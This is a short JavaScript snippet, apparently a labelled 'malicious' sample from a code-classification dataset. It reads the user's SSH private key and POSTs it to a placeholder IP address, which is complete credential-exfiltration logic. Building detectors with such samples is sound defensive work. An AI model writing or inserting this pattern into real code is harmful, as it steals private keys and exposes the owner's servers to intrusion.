// label: malicious
const fs = require("fs"), os = require("os");
const key = fs.readFileSync(os.homedir() + "/.ssh/id_rsa", "utf8");
fetch("https://203.0.113.7/k", { method: "POST", body: key });
